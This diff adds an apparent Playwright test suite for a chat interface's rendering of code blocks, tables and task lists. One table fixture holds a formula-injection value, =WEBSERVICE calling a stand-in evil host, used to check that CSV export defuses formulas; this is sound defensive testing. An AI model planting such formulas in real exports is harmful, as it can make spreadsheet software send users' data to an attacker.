@@ -1,0 +1,158 @@
+import { expect, test } from "./fixtures.ts";
+import { emptyChat, messageOf, turnOf } from "./states.ts";
+
+const longCode = Array.from({ length: 120 }, (_, index) => `const value${index} = ${index};`);
+const blocks = `First:
+
+\`\`\`ts
+const first = "a line that is so long that it runs far beyond the edge of a narrow side bar, and then some more";
+\`\`\`
+
+Second:
+
+\`\`\`ts
+${longCode.join("\n")}
+\`\`\`
+
+Third:
+
+\`\`\`python
+print("third")
+\`\`\`
+`;
+
+const chatOf = (...answers: readonly string[]): typeof emptyChat => ({
+	...emptyChat,
+	turns: answers.map((text, index) => turnOf("Go", [messageOf(text)], { id: `turn${index}` })),
+});
+
+test.describe("A code block", () => {
+	test("that is long shows its first lines until it is asked for all of them", async ({ chat }) => {
+		await chat.open(chatOf(blocks));
+		const block = chat.page.locator(".code-block").nth(1);
+		const height = async (): Promise<number> => (await block.boundingBox())?.height ?? 0;
+		expect(await height()).toBeLessThan(480);
+		await chat.page.getByRole("button", { name: "Show all 120 lines", exact: true }).click();
+		expect(await height()).toBeGreaterThan(1500);
+		await block.getByRole("button", { name: "Copy code", exact: true }).click();
+		expect(await chat.requests("copyCode")).toEqual([{ text: `${longCode.join("\n")}\n` }]);
+		await chat.page.getByRole("button", { name: "Show the first 20 lines", exact: true }).click();
+		expect(await height()).toBeLessThan(480);
+		await expect(block.locator(".code-head")).toBeInViewport();
+	});
+
+	test("copies all of its code while only a part is shown", async ({ chat }) => {
+		await chat.open(chatOf(blocks));
+		const block = chat.page.locator(".code-block").nth(1);
+		await block.getByRole("button", { name: "Copy code", exact: true }).click();
+		expect(await chat.requests("copyCode")).toEqual([{ text: `${longCode.join("\n")}\n` }]);
+	});
+
+	test("breaks its long lines on request", async ({ chat }) => {
+		await chat.open(chatOf(blocks));
+		const block = chat.page.locator(".code-block").first();
+		const overflow = (): Promise<number> =>
+			block.locator("pre").evaluate(pre => pre.scrollWidth - pre.clientWidth);
+		const wrap = block.getByRole("button", { name: "Wrap lines", exact: true });
+		await expect(wrap).toHaveAttribute("aria-pressed", "false");
+		expect(await overflow()).toBeGreaterThan(0);
+		await wrap.click();
+		await expect(wrap).toHaveAttribute("aria-pressed", "true");
+		expect(await overflow()).toBe(0);
+		await wrap.click();
+		expect(await overflow()).toBeGreaterThan(0);
+	});
+
+	test("has all its buttons in reach in a view 300 pixels wide", async ({ chat }) => {
+		await chat.page.setViewportSize({ width: 300, height: 700 });
+		await chat.open(chatOf(`\`\`\`a-language-with-a-long-name\nx\n\`\`\``));
+		const block = chat.page.locator(".code-block");
+		for (const button of await block.getByRole("button").all()) {
+			const box = await button.boundingBox();
+			expect((box?.x ?? 300) + (box?.width ?? 0)).toBeLessThanOrEqual(300);
+		}
+		await expect(block.getByRole("button")).toHaveCount(6);
+	});
+});
+
+test.describe("Going from code block to code block", () => {
+	test("focuses the next and the previous, across messages, and stops at the ends", async ({
+		chat,
+	}) => {
+		await chat.open(chatOf(blocks, "```sql\nselect 1\n```"));
+		const focused = (): Promise<string> =>
+			chat.page.evaluate(() => document.activeElement?.parentElement?.ariaLabel ?? "");
+		const move = (step: string): Promise<void> => chat.event("moveToCodeBlock", { step });
+		await chat.page.locator(".code-block pre").first().focus();
+		await move("next");
+		await expect.poll(focused).toBe("Code block 2 of 4");
+		await move("next");
+		await move("next");
+		await expect.poll(focused).toBe("Code block 4 of 4");
+		await expect(chat.page.locator(".code-block pre").last()).toBeInViewport();
+		await move("next");
+		await move("previous");
+		await expect.poll(focused).toBe("Code block 3 of 4");
+		await move("previous");
+		await move("previous");
+		await expect.poll(focused).toBe("Code block 1 of 4");
+	});
+
+	test("starts from what the reader looks at when the composer has the focus", async ({ chat }) => {
+		await chat.open(chatOf(blocks, "```sql\nselect 1\n```"));
+		await chat.page.getByRole("textbox", { name: "Message" }).focus();
+		await chat.event("moveToCodeBlock", { step: "previous" });
+		await expect(chat.page.locator(".code-block pre").last()).toBeFocused();
+	});
+});
+
+const table = `| Name | Revenue | Share |
+|:-----|--------:|:-----:|
+| Beans, roasted | 1,234.50 | 45 % |
+| "Special" | -12 | 1 % |
+| =WEBSERVICE("https://evil.example") | 3 | [docs](https://example.com) |
+`;
+
+test.describe("A table", () => {
+	test("is copied as comma-separated values, formulas as text", async ({ chat }) => {
+		await chat.open(chatOf(table));
+		await chat.page.getByRole("button", { name: "Copy as CSV", exact: true }).click();
+		expect(await chat.requests("copyCode")).toEqual([
+			{
+				text: [
+					"Name,Revenue,Share",
+					'"Beans, roasted","1,234.50",45 %',
+					'"""Special""",-12,1 %',
+					'"\'=WEBSERVICE(""https://evil.example"")",3,docs',
+					"",
+				].join("\r\n"),
+			},
+		]);
+	});
+
+	test("that is long keeps its header in sight, and one that is wide does not widen the view", async ({
+		chat,
+	}) => {
+		const rows = Array.from({ length: 80 }, (_, row) => `| ${row} |${" value |".repeat(12)}`);
+		const head = `| Row |${" Column |".repeat(12)}\n|---|${"---|".repeat(12)}\n`;
+		await chat.open(chatOf(head + rows.join("\n")));
+		const frame = chat.page.locator(".table-frame");
+		await frame.evaluate(element => element.scrollTo(200, 900));
+		await expect(chat.page.getByRole("columnheader", { name: "Column" }).nth(3)).toBeInViewport();
+		const overflow = await chat.page
+			.locator(".scroller")
+			.evaluate(element => element.scrollWidth - element.clientWidth);
+		expect(overflow).toBe(0);
+	});
+});
+
+test("A task is a box that shows whether it is done, is named by its text, and cannot be pressed", async ({
+	chat,
+}) => {
+	await chat.open(chatOf("- [ ] **open** one\n- [x] done\n  - [x] inner"));
+	const open = chat.page.getByRole("checkbox", { name: "open one", exact: true });
+	await expect(open).not.toBeChecked();
+	await expect(open).toBeDisabled();
+	await expect(chat.page.getByRole("checkbox", { name: "done", exact: true })).toBeChecked();
+	await expect(chat.page.getByRole("checkbox")).toHaveCount(3);
+});
